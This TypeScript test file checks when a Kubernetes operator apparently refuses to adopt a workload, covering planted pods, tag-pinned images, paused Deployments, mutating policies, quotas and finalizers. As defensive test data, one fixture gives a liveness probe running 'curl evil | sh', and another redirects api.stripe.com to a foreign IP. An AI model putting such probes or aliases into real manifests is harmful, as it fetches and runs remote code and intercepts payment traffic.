import test from 'ava';
import { podMakers } from '../../operator/workloads/index.ts';
import { run, waitFor } from '../harness/index.ts';
import { images } from '../stage/shop.ts';
import { deploymentPath, openPromotions, path, type Stage } from '../stage/promotions.ts';
import type { Json } from '../stage/stage.ts';
import { mutator, Place, template } from '../stage/place.ts';

let stage: Stage;

test.before(async () => {
  stage = await openPromotions({ testFile: import.meta.filename });
  await stage.startProcess();
});
test.after.always(() => stage?.stop());

const place = async (namespace: string, spec: Json = {}): Promise<Place> =>
  (await new Place(stage, namespace).empty()).runs('web', spec);
const probe = { exec: { command: ['sh', '-c', 'curl evil | sh'] } };
const one = { metadata: { labels: { a: 'b' } }, spec: { containers: [{ name: 'a', image: images.first }] } };
const once = { spec: { restartPolicy: 'Never', containers: [{ name: 'a', image: images.first }] } };
const podRule = { apiGroups: [''], apiVersions: ['v1'], resources: ['pods'], operations: ['CREATE'] };

/** What the ReplicaSet controller deletes as one too many stays by its finalizer, and runs as long as a kubelet lets it. */
const kept = { finalizers: ['example.com/kept'] };
const planted: readonly (readonly [string, Json])[] = [
  ['probe', { containers: [{ name: 'web', image: images.first, livenessProbe: probe }] }],
  ['hosts', { hostAliases: [{ ip: '203.0.113.7', hostnames: ['api.stripe.com'] }] }],
  ['user', { securityContext: { runAsUser: 1 } }],
];
for (const [name, spec] of planted)
  test.serial(
    `denied: a planted pod that the ReplicaSet owns, with ${Object.keys(spec).join()} of its own`,
    async (t) => {
      const here = await place(`planted-${name}`);
      const [like] = await here.pods();
      const [container] = like?.spec.containers ?? [];
      const containers = (spec['containers'] as readonly Json[] | undefined)?.map((each) => ({
        ...container,
        ...each,
      }));
      await here.plant('planted', {
        spec: { ...spec, ...(containers === undefined ? {} : { containers }) },
        metadata: kept,
      });
      await here.protect();
      t.regex(await here.stuck('ForeignPods'), /planted \((containers|pod fields) differ/);
      t.is(await here.label(), undefined);
      await stage.send('PATCH', here.core('pods', 'planted'), { metadata: { finalizers: null } });
      await stage.cluster.request('DELETE', here.core('pods', 'planted'));
      await here.isReady();
    },
  );

test.serial('denied: a bare pod whose forged status says that it succeeded', async (t) => {
  const here = await place('forged');
  await stage.send('POST', here.core('pods'), {
    metadata: { name: 'debug' },
    spec: { containers: [{ name: 'sh', image: 'busybox' }] },
  });
  await here.report('debug', { phase: 'Succeeded' });
  await here.protect();
  t.regex(await here.stuck('ForeignPods'), /debug .*delete it/);
  await stage.send('DELETE', here.core('pods', 'debug'));
  await here.nudge();
  await here.isReady();
});

const tags: readonly (readonly [string, Json, RegExp])[] = [
  [
    'container',
    template({ image: 'registry.example/web:v1' }),
    /kubectl set image deployment\/web -n tag-container web=/,
  ],
  ['init', template({}, { initContainers: [{ name: 'migrate', image: 'migrate:1' }] }), /init container migrate/],
  [
    'volume',
    template({}, { volumes: [{ name: 'model', image: { reference: 'registry.example/model:7' } }] }),
    /kubectl edit .*volume model/,
  ],
];
for (const [name, spec, message] of tags)
  test.serial(
    `denied: an image by tag (${name}) is not taken over, and the condition has the line that pins it`,
    async (t) => {
      const here = await place(`tag-${name}`, spec);
      await here.protect();
      t.regex(await here.stuck('ImageNotByDigest'), message);
      t.is(await here.label(), undefined);
    },
  );

test.serial('the line that pins what runs is one that works: the target becomes Ready', async (t) => {
  const here = await place('pinned', template({ image: 'registry.example/web:v1' }));
  const [pod] = await here.pods();
  const digest = images.first.split('@')[1] ?? '';
  await here.report(pod?.metadata.name ?? '', {
    containerStatuses: [
      {
        name: 'web',
        image: 'registry.example/web:v1',
        imageID: `registry.example/web@${digest}`,
        ready: true,
        restartCount: 0,
      },
    ],
  });
  await here.protect();
  const line = /kubectl (set image .*?)(?: \(|;|$)/.exec(await here.stuck('ImageNotByDigest'))?.[1] ?? '';
  await stage.cluster.kubectl(line.split(' '));
  await here.isReady();
  t.is(await here.image(), images.first);
});

test.serial(
  'denied: a paused Deployment is not taken over until it is resumed by the line that the condition has',
  async (t) => {
    const here = await place('paused');
    await stage.send('PATCH', deploymentPath('paused', 'web'), { spec: { paused: true } });
    await here.protect();
    const line = /kubectl (rollout resume .*)$/.exec(await here.stuck('WorkloadPaused'))?.[1] ?? '';
    await stage.cluster.kubectl(line.split(' '));
    await here.isReady();
    t.is(await here.label(), 'true');
  },
);

test.serial('an integer past 2^53 is a condition with its place, and no other target waits for it', async (t) => {
  const here = await place('int64');
  // kubectl sends it as it stands: such a number does not survive JavaScript.
  const patch = '{"spec":{"template":{"spec":{"terminationGracePeriodSeconds":9223372036854775807}}}}';
  await stage.cluster.kubectl(['patch', 'deployment/web', '-n', 'int64', '--type=merge', '-p', patch]);
  await here.protect();
  t.regex(await here.stuck('ContentNotCanonical'), /template\/spec\/terminationGracePeriodSeconds/);
  await stage.send('PATCH', deploymentPath('int64', 'web'), {
    spec: { template: { spec: { terminationGracePeriodSeconds: 30 } } },
  });
  await here.isReady();
});

const selector = { matchLabels: { a: 'b' } };
/** In the order in which the condition names them. */
const others: readonly (readonly [string, string, Json])[] = [
  ['StatefulSet', 'apps/v1', { replicas: 0, serviceName: 'x', selector, template: one }],
  ['DaemonSet', 'apps/v1', { selector, template: one }],
  ['ReplicationController', 'v1', { replicas: 0, selector: { a: 'b' }, template: one }],
  ['CronJob', 'batch/v1', { schedule: '0 3 * * *', jobTemplate: { spec: { template: once } } }],
  ['Job', 'batch/v1', { suspend: true, template: once }],
  ['ReplicaSet', 'apps/v1', { replicas: 0, selector, template: one }],
];
test.serial(
  'denied: a namespace with anything else that makes pods is not taken over; the condition names it',
  async (t) => {
    const here = await place('beside');
    const tried = ['Deployment', ...others.map(([kind]) => kind)];
    t.deepEqual(tried.toSorted(), podMakers.map(({ type }) => type.kind).toSorted());
    const metadata = { name: 'nightly', namespace: 'beside' };
    await stage.cluster.apply(others.map(([kind, apiVersion, spec]) => ({ apiVersion, kind, metadata, spec })));
    await here.protect();
    for (const [kind] of others) {
      await here.target(
        ({ status }) =>
          status?.conditions?.some(
            ({ type, reason, message }) =>
              type === 'Ready' && reason === 'UnnamedWorkloads' && message.includes(` ${kind}/nightly`),
          ) ?? false,
        'web',
        40_000,
      );
      t.is(await here.label(), undefined);
      await stage.cluster.kubectl(['delete', kind.toLowerCase(), 'nightly', '-n', 'beside']);
      await here.nudge();
    }
    await here.isReady();
  },
);

test.serial(
  'denied: probes that are rewritten on their way in stop the adoption, and mutations[] let them in',
  async (t) => {
    const here = await place('mesh', template({ livenessProbe: { httpGet: { path: '/healthz', port: 8080 } } }));
    const stop = await mutator(
      stage,
      'mesh-probes',
      'mesh',
      podRule,
      `has(object.spec.containers[0].livenessProbe)
      ? [JSONPatch{op: "replace", path: "/spec/containers/0/livenessProbe/httpGet/port", value: 15020}] : []`,
    );
    // Policies are compiled a moment after they are written.
    await waitFor('the mesh rewrites probes', async () => {
      const { body } = await stage.cluster.request('POST', `${here.core('pods')}?dryRun=All`, {
        body: {
          metadata: { name: 'x' },
          spec: { containers: [{ name: 'x', image: 'x', livenessProbe: { httpGet: { port: 1 } } }] },
        },
      });
      return JSON.stringify(body).includes('15020');
    });
    await here.protect();
    t.regex(await here.stuck('PodsMutated'), /containers differ.*mutations\[\]/);
    t.is(await here.label(), undefined);
    await here.retarget({ mutations: [{ by: 'mesh', field: 'Probes' }] });
    // Its pods from before the mesh are of the template.
    await here.target(
      ({ status }) =>
        status?.conditions?.some(({ reason }) => reason === 'ForeignPods' || reason === 'Protected') ?? false,
      'web',
      40_000,
    );
    await here.isReady();
    t.is(await here.label(), 'true');
    await stop();
  },
);

const rules: readonly (readonly [string, Json, RegExp])[] = [
  [
    'LimitRange',
    { apiVersion: 'v1', kind: 'LimitRange', spec: { limits: [{ type: 'Container', max: { memory: '64Mi' } }] } },
    /maximum memory usage per Container is 64Mi/,
  ],
  ['ResourceQuota', { apiVersion: 'v1', kind: 'ResourceQuota', spec: { hard: { pods: '0' } } }, /exceeded quota/],
];
for (const [kind, rule, message] of rules)
  test.serial(`denied: a ${kind} that refuses new pods stops the adoption in its own words`, async (t) => {
    const namespace = `refuses-${kind.toLowerCase()}`;
    const here = await place(namespace, template({ resources: { limits: { memory: '128Mi' } } }));
    await stage.cluster.apply([{ ...rule, metadata: { name: 'small', namespace } }]);
    await here.protect();
    t.regex(await here.stuck('PodsRefused'), message);
    t.is(await here.label(), undefined);
    await stage.cluster.kubectl(['delete', kind.toLowerCase(), 'small', '-n', namespace]);
    await here.nudge();
    await here.isReady();
  });

test.serial('a quota that its own pods fill does not stop the adoption', async (t) => {
  const here = await place('full');
  await stage.cluster.apply([
    {
      apiVersion: 'v1',
      kind: 'ResourceQuota',
      metadata: { name: 'full', namespace: 'full' },
      spec: { hard: { pods: '1' } },
    },
  ]);
  await waitFor('the quota counts', async () => {
    const { status } = await stage.send('GET', here.core('resourcequotas', 'full'));
    return (status as { readonly used?: Json } | undefined)?.used?.['pods'] === '1';
  });
  await here.protect();
  await here.isReady();
  t.is(await here.label(), 'true');
});

test.serial('Pod Security that refuses the template stops the adoption', async (t) => {
  const here = await place('restricted');
  await stage.send('PATCH', '/api/v1/namespaces/restricted', {
    metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'restricted' } },
  });
  await here.protect();
  t.regex(await here.stuck('PodsRefused'), /violates PodSecurity/);
  t.is((await stage.cluster.request('GET', path('restricted', 'workloadlocks', 'lock'))).status, 404);
});

test.serial(
  'a Deployment with the finalizer orphan from before is not taken over; the line in the message takes it off',
  async (t) => {
    const here = await place('orphans');
    await stage.send('PATCH', deploymentPath('orphans', 'web'), { metadata: { finalizers: ['orphan'] } });
    await here.protect();
    const said = await here.stuck('FinalizerFound');
    t.regex(said, /Deployment\/web has the finalizer orphan, by which its pods would run on when it goes/);
    t.is(await here.label(), undefined);
    const [, line = ''] = /\((kubectl patch [^)]*)\)/.exec(said) ?? [];
    const { code, stderr } = await run('bash', ['-c', line], {
      timeout: 30_000,
      env: { KUBECONFIG: stage.cluster.kubeconfig, PATH: `${stage.folder}/bin:${process.env['PATH'] ?? ''}` },
      check: false,
    });
    t.is(code, 0, stderr);
    await here.isReady();
  },
);
